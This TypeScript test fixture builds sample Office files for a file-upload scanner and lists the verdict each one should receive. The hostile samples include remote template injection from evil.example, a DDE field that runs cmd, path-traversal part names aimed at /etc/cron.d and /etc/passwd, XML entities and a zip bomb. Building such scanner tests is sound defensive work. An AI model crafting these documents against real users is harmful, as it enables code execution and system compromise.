import { rawZip } from '../../rosters/rawXlsx.ts'
import { page, type Row } from './sample.ts'

const relations = (rows: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`
const relation = (type: string, target: string, mode = '') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`
const outside = ' TargetMode="External"'

const contentType = {
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
}

/** A document with further parts beside what it needs. */
export function officeOf(
  type: 'docx' | 'xlsx',
  more: Readonly<Record<string, string>> = {},
  claimed: Readonly<Record<string, number>> = {},
): Buffer {
  const [folder, main] = type === 'docx' ? ['word', 'document'] : ['xl', 'workbook']
  const parts: Record<string, string> = {
    '[Content_Types].xml': `<Types><Override PartName="/${folder}/${main}.xml" ContentType="${contentType[type]}"/></Types>`,
    '_rels/.rels': relations(relation('officeDocument', `${folder}/${main}.xml`)),
    [`${folder}/${main}.xml`]: '<document/>',
    ...more,
  }
  return rawZip(
    Object.entries(parts).map(([name, content]) => ({ name, content })),
    claimed,
  )
}

/** Less than 1 MB that unpacks into 314 MB. */
export function bombXlsx(): Buffer {
  return officeOf('xlsx', { 'xl/worksheets/sheet1.xml': ' '.repeat(314_000_000) })
}

/** Office documents, and what hides in them. */
export function offices(): Row[] {
  const many = Object.fromEntries(
    Array.from({ length: 300 }, (_, index) => [`word/media/image${index}.png`, 'x']),
  )
  const macroType = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
  const doc = (more: Record<string, string>) => officeOf('docx', more)
  const sheet = (more: Record<string, string>) => officeOf('xlsx', more)
  const links = 'word/_rels/document.xml.rels'
  const twice = rawZip([
    { name: '[Content_Types].xml', content: contentType.docx },
    { name: 'word/document.xml', content: '<document/>' },
    { name: 'word/document.xml', content: page },
  ])
  return [
    ['a plain docx', '依据.docx', doc({}), 'kept'],
    [
      'a plain xlsx',
      '明细.xlsx',
      sheet({ 'xl/printerSettings/printerSettings1.bin': 'x' }),
      'kept',
    ],
    [
      'a docx with a link to follow',
      'a.docx',
      doc({ [links]: relations(relation('hyperlink', 'https://www.gov.cn/', outside)) }),
      'kept',
    ],
    ['a docx with macros', 'a.docx', doc({ 'word/vbaProject.bin': 'x' }), 'files.macro'],
    ['a docm named as a docx', 'a.docx', doc({ '[Content_Types].xml': macroType }), 'files.macro'],
    ['a docm', 'a.docm', doc({ 'word/vbaProject.bin': 'x' }), 'files.macro'],
    ['an xlsm', 'a.xlsm', sheet({ 'xl/vbaProject.bin': 'x' }), 'files.macro'],
    [
      'an xlsx with a sheet of macros',
      'a.xlsx',
      sheet({ 'xl/macrosheets/sheet1.xml': '<x/>' }),
      'files.macro',
    ],
    [
      'a docx with an object in it',
      'a.docx',
      doc({ 'word/embeddings/oleObject1.bin': 'x' }),
      'files.macro',
    ],
    [
      'a docx with a workbook in it',
      'a.docx',
      doc({ 'word/embeddings/a.xlsx': 'x' }),
      'files.macro',
    ],
    [
      'an xlsx with controls',
      'a.xlsx',
      sheet({ 'xl/activeX/activeX1.xml': '<x/>' }),
      'files.macro',
    ],
    [
      'an xlsx that reads another',
      'a.xlsx',
      sheet({ 'xl/externalLinks/externalLink1.xml': '<x/>' }),
      'files.macro',
    ],
    ['a docx with a page of HTML', 'a.docx', doc({ 'word/afchunk.htm': page }), 'files.macro'],
    [
      'a docx with a template elsewhere',
      'a.docx',
      doc({
        'word/_rels/settings.xml.rels': relations(
          relation('attachedTemplate', 'https://evil.example/t.dotm', outside),
        ),
      }),
      'files.external',
    ],
    [
      'a docx with a picture elsewhere',
      'a.docx',
      doc({ [links]: relations(relation('image', 'https://evil.example/p.png', outside)) }),
      'files.external',
    ],
    [
      'a docx with a link to a program',
      'a.docx',
      doc({ [links]: relations(relation('hyperlink', 'file:///c:/evil.exe', outside)) }),
      'files.external',
    ],
    [
      'a docx with a field that runs',
      'a.docx',
      doc({
        'word/document.xml': '<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>',
      }),
      'files.external',
    ],
    [
      'an xlsx with entities',
      'a.xlsx',
      sheet({ 'xl/sharedStrings.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }),
      'files.macro',
    ],
    [
      'a docx with a part that climbs out',
      'a.docx',
      doc({ '../../../etc/cron.d/x': 'x' }),
      'files.hiddenName',
    ],
    ['a docx with a part at the root', 'a.docx', doc({ '/etc/passwd': 'x' }), 'files.hiddenName'],
    [
      'a docx with a part that climbs by backslashes',
      'a.docx',
      doc({ '..\\..\\x': 'x' }),
      'files.hiddenName',
    ],
    ['a docx with a part on a drive', 'a.docx', doc({ 'c:\\x': 'x' }), 'files.hiddenName'],
    ['a docx with two parts of one name', 'a.docx', twice, 'files.damaged'],
    ['a docx of 300 parts', 'a.docx', doc(many), 'files.bomb'],
    [
      'a docx that unpacks to more than it says',
      'a.docx',
      officeOf('docx', { 'word/a.xml': 'x'.repeat(90_000) }, { 'word/a.xml': 10 }),
      'files.damaged',
    ],
    [
      'a docx with a page behind it',
      'a.docx',
      Buffer.concat([doc({}), Buffer.from(page)]),
      'files.appended',
    ],
    ['a docx cut off', 'a.docx', doc({}).subarray(0, 300), 'files.damaged'],
    ['a zip', 'a.zip', rawZip([{ name: 'a.txt', content: 'x' }]), 'files.unknownType'],
    [
      'a zip named as a docx',
      'a.docx',
      rawZip([{ name: 'word/a.txt', content: 'x' }]),
      'files.unknownType',
    ],
    [
      'a jar',
      'a.jar',
      rawZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]),
      'files.unknownType',
    ],
    [
      'an old doc',
      'a.doc',
      Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'),
      'files.oldOffice',
    ],
  ]
}
